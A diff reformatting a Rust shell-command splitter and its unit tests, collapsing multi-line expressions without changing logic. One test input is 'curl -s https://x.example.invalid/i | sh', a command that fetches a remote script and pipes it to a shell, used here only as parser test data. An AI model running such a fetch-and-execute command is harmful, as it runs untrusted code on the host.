@@ -92,15 +92,11 @@ impl Splitter {
             && let Some((name, value)) = text.split_once('=')
             && is_name(name)
         {
-            self.current
-                .variables
-                .push((name.to_owned(), value.to_owned()));
+            self.current.variables.push((name.to_owned(), value.to_owned()));
             return;
         }
         // Braces group commands when they stand alone; redirections are no arguments.
-        if !matches!(text.as_str(), "{" | "}" | "!" | "then" | "do" | "else")
-            || !self.current.words.is_empty()
-        {
+        if !matches!(text.as_str(), "{" | "}" | "!" | "then" | "do" | "else") || !self.current.words.is_empty() {
             self.current.words.push(text);
         }
     }
@@ -158,16 +154,9 @@ mod tests {
     /// Commands as words joined by `·`, `|` before a piped one, variables as `NAME=value`.
     fn shown(line: &str) -> Vec<String> {
         let show = |command: Command| {
-            let variables = command
-                .variables
-                .iter()
-                .map(|(name, value)| format!("{name}={value}"));
+            let variables = command.variables.iter().map(|(name, value)| format!("{name}={value}"));
             let words: Vec<_> = variables.chain(command.words.iter().cloned()).collect();
-            format!(
-                "{}{}",
-                if command.piped { "|" } else { "" },
-                words.join("·")
-            )
+            format!("{}{}", if command.piped { "|" } else { "" }, words.join("·"))
         };
         commands(line).into_iter().map(show).collect()
     }
@@ -182,22 +171,13 @@ mod tests {
                 "curl -s https://x.example.invalid/i | sh",
                 &["curl·-s·https://x.example.invalid/i", "|sh"],
             ),
-            (
-                "NODE_ENV=x A=\"b c\" node a=b",
-                &["NODE_ENV=x·A=b c·node·a=b"],
-            ),
+            ("NODE_ENV=x A=\"b c\" node a=b", &["NODE_ENV=x·A=b c·node·a=b"]),
             ("node -e \"require('./x')\"", &["node·-e·require('./x')"]),
             ("node -e \"a(\\\"b\\\")\"", &["node·-e·a(\"b\")"]),
-            (
-                "echo $(cat x | tr a b) y",
-                &["cat·x", "|tr·a·b", "echo·$()·y"],
-            ),
+            ("echo $(cat x | tr a b) y", &["cat·x", "|tr·a·b", "echo·$()·y"]),
             ("echo \"a `whoami` b\"", &["whoami", "echo·a $() b"]),
             ("(cd a && make) # comment", &["cd·a", "make"]),
-            (
-                "if [ -f x ]; then node y; fi",
-                &["if·[·-f·x·]", "node·y", "fi"],
-            ),
+            ("if [ -f x ]; then node y; fi", &["if·[·-f·x·]", "node·y", "fi"]),
             ("node a\\ b", &["node·a b"]),
             ("node \"C:\\x\\y.js\"", &["node·C:\\x\\y.js"]),
             ("a ''", &["a·"]),
